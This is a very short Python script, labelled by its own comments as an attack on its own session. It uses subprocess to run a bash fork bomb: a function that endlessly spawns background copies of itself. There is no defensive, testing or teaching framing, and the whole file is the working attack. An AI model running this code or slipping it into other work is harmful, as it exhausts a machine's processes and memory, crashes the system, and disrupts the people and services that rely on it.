# attacks its session with a fork bomb in a shell
# ends: variously
import subprocess
subprocess.run(['bash', '-c', 'b() { while :; do b & done; }; b'])
